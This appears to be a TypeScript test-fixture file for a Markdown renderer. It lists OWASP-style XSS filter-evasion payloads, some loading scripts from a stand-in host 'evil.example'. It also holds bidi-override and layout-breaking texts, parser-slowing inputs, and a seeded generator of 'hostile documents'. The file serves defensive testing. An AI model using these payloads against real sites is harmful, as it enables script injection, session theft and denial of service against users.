/** A picture that some of the texts name. */
export const PICTURE = "0b7a4b00-1111-4222-8333-444455556666";

/** The OWASP list of what gets past filters (XSS Filter Evasion Cheat Sheet), each also as a text of its own. */
export const EVASIONS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
  "<SCRIPT SRC=https://evil.example/xss.js?< B >",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "</script><script>alert(1)</script>",
  "</TITLE><SCRIPT>alert(1);</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x:x onerror\u2028=alert(1)>",
  "<IMG SRC=javascript:alert(1)>",
  "<IMG SRC=JaVaScRiPt:alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<IMG SRC=# onmouseover=alert(1)>",
  "<IMG onmouseover=alert(1)>",
  "<IMG SRC=/ onerror=alert(1)></img>",
  "<img src=x onerror=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14; javascript:alert(1);">',
  "<IMG SRC='vbscript:msgbox(1)'>",
  '<IMG DYNSRC="javascript:alert(1)">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
  "<IMG SRC=https://evil.example/p.png>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
  "<iframe src=https://evil.example/scriptlet.html <",
  "<FRAMESET><FRAME SRC=javascript:alert(1)></FRAMESET>",
  "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
  "<a onmouseover=alert(1)>x</a>",
  "<A HREF=//0x42.0x0000066.0x7.0x93/>x</A>",
  "<body onload=alert(1)>",
  '<BODY BACKGROUND="javascript:alert(1)">',
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
  "<BGSOUND SRC=javascript:alert(1);>",
  '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  "<STYLE>body{-moz-binding:url('https://evil.example/x.xml#xss')}</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=https://evil.example/">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
  '<BASE HREF="javascript:alert(1);//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="position:fixed;inset:0;background:url(javascript:alert(1))">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);" autofocus onfocus=alert(1)>',
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>",
  "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
  "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "¼script¾alert(1)¼/script¾",
  "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
  "';alert(String.fromCharCode(88,83,83))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\nscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&Tab;javascript&colon;alert&lpar;1&rpar;)",
  "[a](\u0001javascript:alert(1))",
  "[a](vbscript:msgbox(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](//evil.example)",
  "[a](/\\evil.example)",
  "![a](javascript:alert(1))",
  "![a](https://evil.example/p.png)",
  `![a](image:${PICTURE}#99999x1)`,
  `![a](image:${PICTURE} "onload=alert(1)")`,
  '[a](https://x.example "onmouseover=alert(1)")',
  '[a](https://x.example/"onmouseover="alert(1))',
  "<javascript:alert(1)>",
  "<https://x.example/'onclick='alert(1)>",
  "[@a](member:1)",
  "[a](member:javascript)",
  "> [a](post:1)\n",
] as const;

const LONG_WORD = "fishing".repeat(1_429);

/** Texts that push out of their place or turn what stands around them. */
export const MISSHAPEN = [
  `\u202e${"turned around ".repeat(20)}`,
  `${"\u2067".repeat(200)}سمك ${"\u202d".repeat(200)}fish`,
  `**\u202ebold** _\u2066open_ [\u202elink](https://x.example)`,
  "Z\u0351\u0302\u0310\u0346\u0305\u0301\u0304\u0313\u0317\u0323\u0330\u0331\u0347\u0339a\u0341\u0342\u0343\u0344\u034c\u0350\u0352\u0319\u032b\u0353l".repeat(
    100,
  ),
  LONG_WORD,
  `# ${LONG_WORD}`,
  `\`${LONG_WORD}\``,
  `> ${LONG_WORD}`,
  `https://x.example/${LONG_WORD}`,
  `| ${LONG_WORD} | b |\n| - | - |\n| ${"أ".repeat(3_000)} | ${"鯛".repeat(3_000)} |`,
  `|${"wide|".repeat(60)}\n|${"-|".repeat(60)}\n|${"cell|".repeat(60)}`,
  `${"> ".repeat(500)}deep`,
  Array.from({ length: 100 }, (_item, n) => `${"  ".repeat(n)}- deep`).join("\n"),
  `![a](image:${PICTURE}#99999x1)\n\n![a](image:${PICTURE}#1x99999)\n\n![a](image:${PICTURE}#99999x99999)`,
  `![${LONG_WORD}](image:${PICTURE}#400x300)`,
  `||${LONG_WORD}||`,
  `[@${LONG_WORD}](member:1)`,
  `> [${LONG_WORD}](post:1)\n> words`,
  `/topics/${"x".repeat(80)}/1`,
  "﷽𒐫".repeat(400),
  "words\n\n\u200b\n\n\u3164\n\n\u2800\n",
] as const;

/** Texts that are made to take long. */
export const SLOW: readonly (readonly [name: string, text: string])[] = [
  [
    "a table of sixty thousand cells",
    `${"|a".repeat(250)}|\n${"|-".repeat(250)}|\n${"|\n".repeat(250)}`,
  ],
  ["quotes within quotes", ">".repeat(20_000)],
  [
    "lists within lists",
    Array.from({ length: 500 }, (_item, n) => `${"  ".repeat(n)}- a`)
      .join("\n")
      .slice(0, 20_000),
  ],
  ["brackets", "[".repeat(20_000)],
  ["open links", "[a](".repeat(5_000)],
  ["emphasis", "_*".repeat(10_000)],
  ["spoilers", "||a".repeat(6_600)],
  ["ticks", Array.from({ length: 190 }, (_run, n) => "`".repeat(n)).join(" ")],
  ["one word", "a".repeat(20_000)],
  ["addresses", "http://x.example ".repeat(1_170)],
  ["pages of the site", "/events/0b7a4b00-1111-4222-8333-444455556666\n\n".repeat(430)],
  [
    "reference links",
    Array.from({ length: 700 }, (_link, n) => `[a${n}]: /a\n[a${n}] `).join("\n"),
  ],
  ["entities", "&#x26;".repeat(3_300)],
  ["lines", "a\n".repeat(10_000)],
  ["rows of a table", `|a|b|\n|-|-|\n${"|a|b|\n".repeat(2_800)}`],
];

/** The marks of Markdown to mix them with, and signs that turn or pile up what stands beside them. */
const MARKS = [
  "||",
  "**",
  "_",
  "`",
  "```\n",
  "\n\n",
  "\n",
  "> ",
  "- ",
  "1. ",
  "# ",
  "| a | b |\n| - | - |\n",
  "\u202e",
  "\u2067",
  "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
  "&lt;script&gt;",
  "\\",
  "[",
  "](",
  ")",
  "[x]: javascript:alert(1)\n",
  "釣り",
  "سمك",
  " words ",
];
const PIECES = [...EVASIONS, ...MARKS, ...MARKS];

/** Mulberry32: the same documents in each run. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = Math.trunc(state + 0x6d2b79f5);
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed);
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32) * below);
  };
}

/** So many texts, each of up to 24 pieces: for tests of what shows them. */
export function hostileDocuments(count: number, seed = 7): string[] {
  const below = numbers(seed);
  const text = (): string =>
    Array.from({ length: 1 + below(24) }, () => PIECES[below(PIECES.length)] ?? "").join("");
  return Array.from({ length: count }, text);
}
